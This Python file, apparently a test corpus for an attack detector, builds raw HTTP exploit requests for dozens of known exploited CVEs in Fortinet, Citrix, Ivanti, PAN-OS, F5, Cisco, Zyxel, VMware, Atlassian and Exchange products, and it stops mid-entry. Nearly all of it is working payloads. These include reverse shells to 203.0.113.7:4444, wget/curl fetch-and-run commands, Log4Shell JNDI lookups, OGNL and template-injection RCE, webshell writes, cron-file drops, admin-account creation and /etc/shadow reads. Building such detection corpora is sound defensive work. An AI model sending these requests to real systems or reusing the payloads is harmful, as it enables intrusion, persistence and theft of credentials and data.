"""Blind attack batch R: exploitation of CISA KEV vulnerabilities over HTTP (2014-2026)."""
from __future__ import annotations

import base64


def _raw(method, path, headers=(), body="", host="target.example", length=True):
    """Build a raw HTTP/1.1 request with CRLF line ends and an accurate Content-Length."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    lines.extend(headers)
    if length and (body or method in ("POST", "PUT")):
        lines.append(f"Content-Length: {len(body.encode('utf-8', 'surrogateescape'))}")
    return "\r\n".join(lines) + "\r\n\r\n" + body


def _b64(text):
    return base64.b64encode(text.encode("utf-8", "surrogateescape")).decode("ascii")


def _mp(parts, boundary="----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm"):
    """Multipart body from (name, filename or None, content-type or None, content) tuples."""
    out = []
    for name, filename, ctype, content in parts:
        disp = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        out.append(f"--{boundary}\r\n{disp}\r\n")
        if ctype:
            out.append(f"Content-Type: {ctype}\r\n")
        out.append(f"\r\n{content}\r\n")
    out.append(f"--{boundary}--\r\n")
    return "".join(out)


def _ajp_str(s):
    b = s.encode("latin-1")
    return len(b).to_bytes(2, "big") + b + b"\x00"


def _ajp_forward(uri, query, headers):
    """AJP13 FORWARD_REQUEST packet (POST) as smuggled in CVE-2023-46747."""
    d = b"\x02\x04" + _ajp_str("HTTP/1.1") + _ajp_str(uri) + _ajp_str("127.0.0.1")
    d += _ajp_str("localhost") + _ajp_str("localhost") + (443).to_bytes(2, "big") + b"\x00"
    d += len(headers).to_bytes(2, "big")
    for k, v in headers:
        d += _ajp_str(k) + _ajp_str(v)
    d += b"\x05" + _ajp_str(query) + b"\xff"
    pkt = b"\x12\x34" + len(d).to_bytes(2, "big") + d
    return pkt.decode("utf-8", "surrogateescape")


_AJP = _ajp_forward(
    "/tmui/Control/form",
    "form_page=%2ftmui%2fsystem%2fuser%2fcreate.jsp&form_page_ts=1&systemuser-hidden=[[\"Administrator\",\"[All]\"]]"
    "&systemuser-hidden_before=&name=f5h4x0r&name_before=&passwd=Pwn3d!f5&passwd_before=&finished=x",
    [("Tmui-Dubbuf", "BBBBBBBBBBB"), ("REMOTEROLE", "0"), ("host", "localhost"),
     ("REMOTEUSER", "admin"), ("Content-Type", "application/x-www-form-urlencoded")])


def _cli_frame(op, payload=b""):
    return len(payload).to_bytes(4, "big") + bytes([op]) + payload


def _cli_str(text):
    b = text.encode("utf-8")
    return len(b).to_bytes(2, "big") + b


# Jenkins PlainCLIProtocol upload side: ARG(0) x2, ENCODING(2), LOCALE(1), START(3)
_JENKINS_CLI = (_cli_frame(0, _cli_str("connect-node")) + _cli_frame(0, _cli_str("@/etc/passwd"))
                + _cli_frame(2, _cli_str("UTF-8")) + _cli_frame(1, _cli_str("en_US"))
                + _cli_frame(3)).decode("utf-8", "surrogateescape")


def _djvu(cmd):
    """Minimal DjVu with an ANTa annotation abusing ExifTool eval (CVE-2021-22205)."""
    ant = ('(metadata\n\t(Copyright "\\\n" . qx{' + cmd + '} . \\\n" b ") )\n').encode()
    info = b"\x00\x01\x00\x01\x18\x00\x2c\x01\x16\x01"
    body = b"DJVU" + b"INFO" + len(info).to_bytes(4, "big") + info
    body += b"ANTa" + len(ant).to_bytes(4, "big") + ant
    if len(ant) % 2:
        body += b"\x00"
    return (b"AT&TFORM" + len(body).to_bytes(4, "big") + body).decode("utf-8", "surrogateescape")


_MPCT = "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm"
_UA = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_JSON = "Content-Type: application/json"

BLIND_ATTACKS_R = [
    # --- Fortinet ---
    ("ptrav", "CVE-2018-13379 FortiOS SSL VPN fgt_lang session file read", "path",
     "", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("generic", "CVE-2022-40684 FortiOS auth bypass via Forwarded/Report Runner", "raw", "",
     _raw("PUT", "/api/v2/cmdb/system/admin/admin",
          ["User-Agent: Report Runner", _JSON,
           'Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'],
          '{"ssh-public-key1": "\\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7pwn3d attacker@kali\\""}')),
    ("generic", "CVE-2024-55591 FortiOS Node.js websocket local_access_token bypass", "raw", "",
     _raw("GET", "/ws/cli/open?cols=162&rows=100&local_access_token=watchTowr",
          [_UA, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
           "Sec-WebSocket-Key: thFz/fKwzu5wDEy0XO3fcw=="])),
    ("sqli", "CVE-2025-25257 FortiWeb Fabric Connector SQLi in Bearer token", "raw", "",
     _raw("GET", "/api/fabric/device/status",
          [_UA, "Authorization: Bearer AAAAAA'/**/or/**/sleep(5)/**/--/**/-'"])),
    ("sqli", "CVE-2025-25257 FortiWeb SQLi INTO OUTFILE webshell via Bearer", "header:Authorization", "",
     "Bearer ';SELECT/**/0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e/**/"
     "INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'#"),
    ("ptrav", "CVE-2025-64446 FortiWeb path traversal to fwbcgi with CGIINFO admin", "raw", "",
     _raw("POST", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi",
          [_UA, _JSON, "CGIINFO: " + _b64('{"username":"admin","profname":"prof_admin",'
                                          '"vdom":"root","loginname":"admin"}')],
          '{"data":{"q_type":1,"name":"fwadmin1","access-profile":"prof_admin",'
          '"access-profile_val":"0","trusthostv4":"0.0.0.0/0","password":"P@ssw0rd!1"}}')),
    ("java", "CVE-2022-39952 FortiNAC keyUpload.jsp arbitrary file write zip", "raw", "",
     _raw("POST", "/configWizard/keyUpload.jsp", [_UA, _MPCT],
          _mp([("key", "payload.zip", "application/zip",
                "PK\x03\x04\x14\x00\x00\x00\x00\x00../../../../../etc/cron.d/payload"
                "* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")]))),
    # --- Citrix ---
    ("ptrav", "CVE-2019-19781 Citrix ADC /vpns/ traversal smb.conf probe", "path",
     "", "/vpn/../vpns/cfg/smb.conf"),
    ("rce", "CVE-2019-19781 Citrix ADC newbm.pl Template Toolkit command exec", "raw", "",
     _raw("POST", "/vpn/../vpns/portal/scripts/newbm.pl",
          [_UA, _FORM, "NSC_USER: ../../../netscaler/portal/templates/c0ffee42", "NSC_NONCE: nsroot"],
          "url=http://example.com&title=[%25 template.new({'BLOCK'='print `cat /etc/passwd`'}) %25]"
          "&desc=desc&UI_inuse=RfWeb")),
    ("protocol", "CVE-2023-4966 Citrix Bleed oversized Host header memory leak", "raw", "",
     _raw("GET", "/oauth/idp/.well-known/openid-configuration", [_UA, "Connection: close"],
          host="a" * 24812)),
    ("protocol", "CVE-2025-5777 CitrixBleed 2 doAuthentication login without value", "raw", "",
     _raw("POST", "/p/u/doAuthentication.do", [_UA, _FORM, "Connection: keep-alive"], "login")),
    ("generic", "CVE-2020-8193 Citrix ADC pcidss report session auth bypass", "raw", "",
     _raw("POST", "/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody"
                  "&username=nsroot&set=1",
          [_UA, "Content-Type: application/xml", "X-NITRO-USER: xpyZxwy6", "X-NITRO-PASS: xWXHUJ56"],
          "<appfwprofile><login></login></appfwprofile>")),
    ("ptrav", "CVE-2020-8195 Citrix ADC rapi filedownload /etc/passwd", "path",
     "", "/rapi/filedownload?filter=path:%2Fetc%2Fpasswd"),
    ("protocol", "CVE-2023-3519 Citrix ADC formssso target stack overflow", "path",
     "", "/gwtest/formssso?event=start&target=" + "A" * 600 + "%25x%25x%25x%25x"),
    # --- Ivanti / Pulse Secure ---
    ("ptrav", "CVE-2019-11510 Pulse Secure guacamole traversal /etc/passwd", "path",
     "", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
    ("ptrav", "CVE-2019-11510 Pulse Secure data.mdb session cache read", "path",
     "", "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb"
         "?/dana/html5acc/guacamole/"),
    ("rce", "CVE-2023-46805+CVE-2024-21887 Ivanti ICS keys-status command injection", "raw", "",
     _raw("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20-c%20%27import"
                 "%20socket%2Csubprocess%3Bs%3Dsocket.socket()%3Bs.connect((%22203.0.113.7%22%2C4444))"
                 "%3Bsubprocess.call(%5B%22%2Fbin%2Fsh%22%2C%22-i%22%5D%2Cstdin%3Ds.fileno()%2Cstdout"
                 "%3Ds.fileno())%27%3B", [_UA])),
    ("rce", "CVE-2024-21887 Ivanti ICS cloud-server-test-connection injection", "raw", "",
     _raw("POST", "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
          [_UA, _JSON],
          '{"type":";wget -qO- http://203.0.113.7/s.sh|sh;","txtGCPProject":"a","txtGCPSecret":"a",'
          '"txtGCPPath":"a","txtGCPBucket":"a"}')),
    ("xxe", "CVE-2024-22024 Ivanti ICS saml-sso.cgi XXE in base64 SAMLRequest", "raw", "",
     _raw("POST", "/dana-na/auth/saml-sso.cgi", [_UA, _FORM],
          "SAMLRequest=" + _b64('<?xml version="1.0" ?><!DOCTYPE root [<!ENTITY % watchTowr SYSTEM '
                               '"http://cnhq2a0v.oast.fun/x"> %watchTowr;]><r></r>'))),
    ("ssrf", "CVE-2024-21893 Ivanti ICS saml20.ws SSRF via RetrievalMethod", "raw", "",
     _raw("POST", "/dana-ws/saml20.ws", [_UA, "Content-Type: text/xml"],
          '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
          '<soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
          '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
          '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo>'
          '<ds:SignatureValue>qwerty</ds:SignatureValue><ds:KeyInfo><ds:RetrievalMethod '
          'URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3Bcurl%20203.0.113.7%7Csh%3B"/>'
          '<ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature></soap:Body></soap:Envelope>')),
    ("protocol", "CVE-2025-22457 Ivanti ICS X-Forwarded-For stack overflow", "raw", "",
     _raw("GET", "/dana-na/auth/url_default/welcome.cgi",
          [_UA, "X-Forwarded-For: " + "1" * 2048])),
    ("generic", "CVE-2023-35078 Ivanti EPMM unauthenticated users API", "path",
     "", "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1"),
    ("java", "CVE-2025-4427/4428 Ivanti EPMM featureusage format EL injection", "path",
     "", "/api/v2/featureusage?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
         ".invoke(null).exec('id')}"),
    ("generic", "CVE-2024-7593 Ivanti vTM wizard.fcgi admin auth bypass", "path",
     "", "/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers"),
    # --- Palo Alto Networks ---
    ("ptrav", "CVE-2024-3400 PAN-OS GlobalProtect SESSID traversal file create", "raw", "",
     _raw("POST", "/ssl-vpn/hipreport.esp",
          [_UA, _FORM, "Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/watchtowr.txt;"],
          "")),
    ("rce", "CVE-2024-3400 PAN-OS telemetry SESSID command injection", "cookie",
     "", "SESSID=./../../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}cq8r1.oast.fun?x=$(id|base64)`"),
    ("generic", "CVE-2024-0012 PAN-OS management X-PAN-AUTHCHECK off bypass", "raw", "",
     _raw("GET", "/php/ztp_gate.php/.js.map", [_UA, "X-PAN-AUTHCHECK: off"])),
    ("rce", "CVE-2024-9474 PAN-OS createRemoteAppwebSession user command injection", "raw", "",
     _raw("POST", "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map",
          [_UA, _FORM, "X-PAN-AUTHCHECK: off"],
          "user=`echo $(uname -a) > /var/appweb/htdocs/unauth/watchTowr.php`&userRole=superuser"
          "&remoteHost=&vsys=vsys1")),
    ("ptrav", "CVE-2025-0108 PAN-OS double-encoded unauth traversal auth bypass", "raw", "",
     _raw("GET", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", [_UA])),
    ("php", "CVE-2017-15944 PAN-OS cms_changeDeviceContext session injection", "path",
     "", '/esp/cms_changeDeviceContext.esp?device=aaaaa:a%27";user|s."1337";'),
    # --- F5 BIG-IP ---
    ("ptrav", "CVE-2020-5902 BIG-IP TMUI ..; fileRead /etc/passwd", "path",
     "", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
    ("rce", "CVE-2020-5902 BIG-IP TMUI ..; tmshCmd list auth user", "path",
     "", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin"),
    ("generic", "CVE-2022-1388 BIG-IP iControl REST hop-by-hop auth bypass bash", "raw", "",
     _raw("POST", "/mgmt/tm/util/bash",
          [_UA, _JSON, "Connection: keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token: a",
           "Authorization: Basic YWRtaW46"],
          '{"command":"run","utilCmdArgs":"-c \'id; cat /etc/passwd\'"}')),
    ("ssrf", "CVE-2021-22986 BIG-IP authn login loginReference SSRF", "raw", "",
     _raw("POST", "/mgmt/shared/authn/login", [_UA, _JSON],
          '{"bigipAuthCookie":"","username":"admin","loginReference":{"link":"/shared/gossip"},'
          '"userReference":{"link":"https://localhost/mgmt/shared/authz/users/admin"}}')),
    ("protocol", "CVE-2023-46747 BIG-IP TMUI AJP request smuggling user create", "raw", "",
     _raw("POST", "/tmui/login.jsp",
          [_UA, "Transfer-Encoding: chunked, chunked", _FORM],
          format(len(_AJP.encode("utf-8", "surrogateescape")), "x") + "\r\n" + _AJP + "\r\n0\r\n\r\n", length=False)),
    # --- SonicWall ---
    ("generic", "CVE-2024-53704 SonicOS SSLVPN null swap cookie session hijack", "raw", "",
     _raw("GET", "/cgi-bin/sslvpnclient?launchplatform=",
          [_UA, "Cookie: swap=" + base64.b64encode(b"\x00" * 32).decode()])),
    ("sqli", "CVE-2019-7481 SonicWall SRA supportInstaller customerTID SQLi", "raw", "",
     _raw("POST", "/cgi-bin/supportInstaller", [_UA, _FORM],
          "fromEmailInvite=1&customerTID=unused%27+UNION+SELECT+HEX%28id%29%2C0%2C0%2C0%2C0%2C0%2C0%2C0"
          "%2C0%2C0%2C0%2C0%2C0+FROM+Sessions+WHERE+1%3D1--")),
    # --- Cisco ---
    ("generic", "CVE-2023-20198 Cisco IOS XE double-encoded WSMA exec CLI", "raw", "",
     _raw("POST", "/%2577ebui_wsma_HTTP", [_UA, "Content-Type: application/xml"],
          '<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/"><SOAP:Header><wsse:Security '
          'xmlns:wsse="http://schemas.xmlsoap.org/ws/2002/04/secext"><wsse:UsernameToken SOAP:mustUnderstand="false">'
          '<wsse:Username>admin</wsse:Username><wsse:Password>*****</wsse:Password></wsse:UsernameToken>'
          '</wsse:Security></SOAP:Header><SOAP:Body><request correlator="exec1" xmlns="urn:cisco:wsma-config">'
          '<configApply details="all" action-on-fail="rollback"><config-data><cli-config-data-block>'
          'username cisco_tac_admin privilege 15 secret 0 Sup3rS3cret!</cli-config-data-block></config-data>'
          '</configApply></request></SOAP:Body></SOAP:Envelope>')),
    ("scanner", "CVE-2023-20198 Cisco IOS XE BadCandy implant logon_hash check", "raw", "",
     _raw("POST", "/webui/logoutconfirm.html?logon_hash=1", [_UA, _FORM], "")),
    ("rce", "CVE-2023-20273 Cisco IOS XE installAdd ipaddress command injection", "raw", "",
     _raw("POST", "/webui/rest/softwareMgmt/installAdd", [_UA, _JSON, "X-Csrf-Token: 6b3a1a0c"],
          '{"installMethod":"tftp","ipaddress":"4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4'
          ':4:4:4:4:$(id>/var/www/x.txt)","operation_type":"SMU","filePath":"test","fileSystem":"flash:"}')),
    ("ptrav", "CVE-2018-0296 Cisco ASA +CSCOU+ traversal session listing", "path",
     "", "/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions"),
    ("ptrav", "CVE-2020-3452 Cisco ASA translation-table file read", "path",
     "", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"),
    ("ptrav", "CVE-2020-3452 Cisco ASA oem-customization file read", "path",
     "", "/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua"),
    ("generic", "CVE-2019-1653 Cisco RV320 unauthenticated config.exp export", "path",
     "", "/cgi-bin/config.exp"),
    ("rce", "CVE-2019-1652 Cisco RV320 certificate common_name injection", "raw", "",
     _raw("POST", "/certificate_handle2.htm?type=4", [_UA, _FORM, "Cookie: mlap=YWRtaW46OjE="],
          "page=self_generator.htm&totalRules=1&OpenVPNRules=30&submitStatus=1&log_ch=1&type=4&Country=A"
          "&state=A&locality=A&organization=A&organization_unit=A&email=any%40example.com&KeySize=512"
          "&KeyLength=1024&valid_days=30&SelectSubject_c=1&SelectSubject_s=1"
          "&common_name=a%27%24%28wget%20http%3A%2F%2F203.0.113.7%2Fm%20-O%20%2Ftmp%2Fm%3Bsh%20%2Ftmp%2Fm%29%27b")),
    ("rce", "CVE-2021-1497 Cisco HyperFlex storfs-asup token command injection", "raw", "",
     _raw("POST", "/storfs-asup", [_UA, _FORM],
          "action=&token=%60curl%20http%3A%2F%2F203.0.113.7%2Fx%7Cbash%60&mode=%60id%60")),
    ("rce", "CVE-2025-20281 Cisco ISE ERS InternalUser name command injection", "raw", "",
     _raw("POST", "/ers/sdk#_", [_UA, _JSON, "Authorization: Basic YTph"],
          '{"InternalUser":{"name":"pwn\'; bash -c \'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\' & #",'
          '"password":"Pwned123!","changePassword":true}}')),
    # --- Juniper / Zyxel / Check Point ---
    ("php", "CVE-2023-36845 Juniper J-Web PHPRC /dev/fd/0 auto_prepend_file", "raw", "",
     _raw("POST", "/?PHPRC=/dev/fd/0", [_UA, _FORM],
          'auto_prepend_file="/etc/passwd"\nallow_url_include=1')),
    ("php", "CVE-2023-36844 Juniper J-Web webauth_operation do_upload PHP file", "raw", "",
     _raw("POST", "/webauth_operation.php", [_UA, _FORM],
          "rs=do_upload&rsargs[0]=[{\"fileData\":\"data:text/html;base64,"
          + _b64("<?php system($_GET['c']); ?>") + "\",\"fileName\":\"pwn.php\",\"csize\":29}]")),
    ("php", "CVE-2023-36845 Juniper J-Web PHPRC auto_prepend uploaded ini", "path",
     "", "/?PHPRC=/tmp/pwn.ini"),
    ("rce", "CVE-2022-30525 Zyxel USG ztp handler mtu command injection", "raw", "",
     _raw("POST", "/ztp/cgi-bin/handler", [_UA, _JSON],
          '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5",'
          '"mtu":"; bash -c \'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1;\';","data":"hi"}')),
    ("rce", "CVE-2017-18368 Zyxel P660HN ViewLog.asp remote_host injection", "raw", "",
     _raw("POST", "/cgi-bin/ViewLog.asp", ["User-Agent: Mozilla/5.0", _FORM],
          "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
          "&remote_host=%3bcd+/tmp;wget+http://203.0.113.7/bins/mips;chmod+777+mips;./mips+zyxel;%23"
          "&remoteSubmit=Save")),
    ("rce", "CVE-2020-9054 Zyxel NAS weblogin.cgi username injection", "path",
     "", "/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bcd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.7%2Fz.sh"
         "%3Bsh%20z.sh%20%23&password=asdf"),
    ("ptrav", "CVE-2024-24919 Check Point MyCRL aCSHELL traversal /etc/shadow", "raw", "",
     _raw("POST", "/clients/MyCRL", [_UA, "Content-Type: text/plain"],
          "aCSHELL/../../../../../../../etc/shadow")),
    # --- VMware ---
    ("ssti", "CVE-2022-22954 Workspace ONE Access freemarker deviceUdid", "path",
     "", '/catalog-portal/ui/oauth/verify?error=&deviceUdid=${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}'),
    ("ptrav", "CVE-2021-22005 vCenter analytics telemetry _i traversal file write", "raw", "",
     _raw("POST", "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/ZN3kqk",
          [_UA, _JSON, "X-Deployment-Secret: abc"],
          '"* * * * * root nc -e /bin/sh 203.0.113.7 4444"')),
    ("java", "CVE-2021-21985 vCenter vSAN proxy setTargetObject unsafe reflection", "raw", "",
     _raw("POST", "/ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject",
          [_UA, _JSON], '{"methodInput":[null]}')),
    ("java", "CVE-2021-21985 vCenter vSAN proxy ClassPathXmlApplicationContext", "raw", "",
     _raw("POST", "/ui/h5-vsan/rest/proxy/service/vmodlContext/loadVmodlPackages",
          [_UA, _JSON],
          '{"methodInput":[["https://203.0.113.7/offline_bundle.xml"]]}')),
    ("rce", "CVE-2023-20887 Aria Operations for Networks thrift createSupportBundle", "raw", "",
     _raw("POST", "/saas./resttosaasservlet", [_UA, "Content-Type: application/x-thrift"],
          '[1,"createSupportBundle",1,0,{"1":{"str":"1111"},"2":{"str":"`sudo bash -c \'bash -i >& '
          '/dev/tcp/203.0.113.7/4444 0>&1\'`"},"3":{"str":"value3"},"4":{"lst":["str",2,"AAAA","BBBB"]}}]')),
    ("ssrf", "CVE-2021-21975 vRealize Operations casa thumbprints SSRF", "raw", "",
     _raw("POST", "/casa/nodes/thumbprints", [_UA, _JSON], '["c4ntl2ov.oast.pro/"]')),
    ("java", "CVE-2021-44228 VMware Horizon Log4Shell via Accept-Language", "raw", "",
     _raw("GET", "/portal/info.jsp",
          [_UA, "Accept-Language: ${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/aWQ=}"])),
    ("java", "CVE-2021-44228 vCenter websso Log4Shell via X-Forwarded-For", "raw", "",
     _raw("GET", "/websso/SAML2/SSO/vsphere.local?SAMLRequest=",
          [_UA, "X-Forwarded-For: ${jndi:${lower:l}${lower:d}ap://203.0.113.7:1389/o=tomcat}"])),
    ("java", "CVE-2021-44228 UniFi Network login remember field Log4Shell", "raw", "",
     _raw("POST", "/api/login", [_UA, _JSON, "Referer: https://target.example:8443/manage/account/login"],
          '{"username":"admin","password":"admin","remember":"${jndi:ldap://203.0.113.7:1389/o=tomcat}",'
          '"strict":true}')),
    # --- Atlassian ---
    ("java", "CVE-2022-26134 Confluence OGNL in URI with response header", "path", "",
     '/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/'),
    ("java", "CVE-2022-26134 Confluence OGNL Runtime exec curl in URI", "raw", "",
     _raw("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20http%3A%2F%2F203.0.113.7%2Fx"
                 "%20-o%20%2Ftmp%2Fx%22%29%7D/", [_UA])),
    ("generic", "CVE-2023-22515 Confluence setupComplete reset via server-info", "path",
     "", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
    ("generic", "CVE-2023-22515 Confluence setupadministrator admin creation", "raw", "",
     _raw("POST", "/setup/setupadministrator.action", [_UA, _FORM, "X-Atlassian-Token: no-check"],
          "username=pwned&fullName=pwned&email=pwned%40example.com&password=Pwned!23"
          "&confirm=Pwned!23&setup-next-button=Next")),
    ("generic", "CVE-2023-22518 Confluence setup-restore backup upload", "raw", "",
     _raw("POST", "/json/setup-restore.action", [_UA, _MPCT, "X-Atlassian-Token: no-check"],
          _mp([("buildNumber", None, None, "8703"),
               ("file", "xmlexport-20231109-060519-1.zip", "application/zip",
                "PK\x03\x04\x14\x00\x08\x00\x08\x00entities.xml"),
               ("edit", None, None, "Upload and import")]))),
    ("java", "CVE-2023-22527 Confluence text-inline.vm OGNL via label", "raw", "",
     _raw("POST", "/template/aui/text-inline.vm", [_UA, _FORM],
          "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet"
          "(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027"
          "&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',"
          "(new+freemarker.template.utility.Execute()).exec({\"id\"}))")),
    ("java", "CVE-2021-26084 Confluence createpage-entervariables OGNL", "raw", "",
     _raw("POST", "/pages/createpage-entervariables.action?SpaceKey=x", [_UA, _FORM],
          "queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29"
          ".newInstance%28%29.getEngineByName%28%5cu0027JavaScript%5cu0027%29.%5cu0065val%28%5cu0027"
          "java.lang.Runtime.getRuntime%28%29.exec%28%5cu0022id%5cu0022%29%5cu0027%29%7d%2b%5cu0027")),
    ("java", "CVE-2021-26084 Confluence queryString OGNL arithmetic probe", "form",
     "queryString", "aaaaaaaa\\u0027+{233*233}+\\u0027"),
    ("ptrav", "CVE-2019-3396 Confluence widget connector _template traversal", "raw", "",
     _raw("POST", "/rest/tinymce/1/macro/preview",
          [_UA, _JSON, "Referer: https://target.example/pages/resumedraft.action?draftId=786457"],
          '{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":'
          '"https://www.viddler.com/v/23464dc6","width":"1000","height":"1000","_template":"../web.xml"}}}')),
    ("rfi", "CVE-2019-3396 Confluence widget connector remote velocity _template", "json",
     "", '{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":'
         '"https://www.viddler.com/v/23464dc6","width":"1000","height":"1000",'
         '"_template":"ftp://203.0.113.7:2121/cmd.vm","cmd":"id"}}}'),
    ("ssti", "CVE-2019-11581 Jira ContactAdministrators subject template injection", "raw", "",
     _raw("POST", "/secure/ContactAdministrators.jspa", [_UA, _FORM, "X-Atlassian-Token: no-check"],
          "from=a%40example.com&subject=%24i18n.getClass%28%29.forName%28%27java.lang.Runtime%27%29"
          ".getMethod%28%27getRuntime%27%2Cnull%29.invoke%28null%2Cnull%29.exec%28%27curl+203.0.113.7%27%29"
          ".toString%28%29&details=x&atl_token=&Send=Send")),
    ("ptrav", "CVE-2021-26086 Jira /s/ cfx traversal WEB-INF web.xml", "path",
     "", "/s/cfx/_/;/WEB-INF/web.xml"),
    ("ptrav", "CVE-2021-26086 Jira /s/ ;/META-INF pom.properties", "path",
     "", "/s/cfx/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties"),
    ("ssrf", "CVE-2019-8451 Jira gadgets makeRequest userinfo SSRF", "path",
     "", "/plugins/servlet/gadgets/makeRequest?url=https://target.example:443@169.254.169.254/latest/meta-data/"),
    ("rce", "CVE-2022-36804 Bitbucket archive path NUL argument injection", "raw", "",
     _raw("GET", "/rest/api/latest/projects/PROJ/repos/repo1/archive?filename=x&at=x"
                 "&path=x%00--exec=%60curl%20203.0.113.7%2Fb.sh%7Csh%60%00--remote=origin", [_UA])),
    ("java", "CVE-2019-11580 Crowd pdkinstall plugin jar upload", "raw", "",
     _raw("POST", "/crowd/admin/uploadplugin.action", [_UA, "Content-Type: multipart/mixed; boundary=XYZ"],
          "--XYZ\r\nContent-Disposition: form-data; name=\"file_cdl\"; filename=\"rce.jar\"\r\n"
          "Content-Type: application/java-archive\r\n\r\nPK\x03\x04\x14\x00\x08\x00"
          "atlassian-plugin.xml\r\n--XYZ--\r\n")),
    # --- Microsoft Exchange / SharePoint ---
    ("ssrf", "CVE-2021-26855 Exchange ProxyLogon X-BEResource cookie SSRF", "raw", "",
     _raw("POST", "/ecp/y.js",
          [_UA, "Content-Type: text/xml",
           "Cookie: X-BEResource=Administrator@EXCH01.corp.local:444/autodiscover/autodiscover.xml?a=~1942062522;"],
          '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">'
          '<Request><EMailAddress>administrator@corp.local</EMailAddress><AcceptableResponseSchema>'
          'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a'
          '</AcceptableResponseSchema></Request></Autodiscover>')),
    ("ssrf", "CVE-2021-27065 Exchange OAB ExternalUrl webshell via ProxyLogon", "raw", "",
     _raw("POST", "/ecp/y.js",
          [_UA, "Content-Type: application/json; charset=utf-8",
           "Cookie: X-BEResource=Administrator@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?"
           "schema=OABVirtualDirectory&msExchEcpCanary=qVtR1nLw0Ee3&a=~1942062522; "
           "ASP.NET_SessionId=0f5b3a7e-1c2d-4e5f-8a9b-0c1d2e3f4a5b; msExchEcpCanary=qVtR1nLw0Ee3"],
          '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":'
          '"3a1c8f0e-5d2b-4c7a-9e6f-1b2c3d4e5f60"},"properties":{"Parameters":{"__type":'
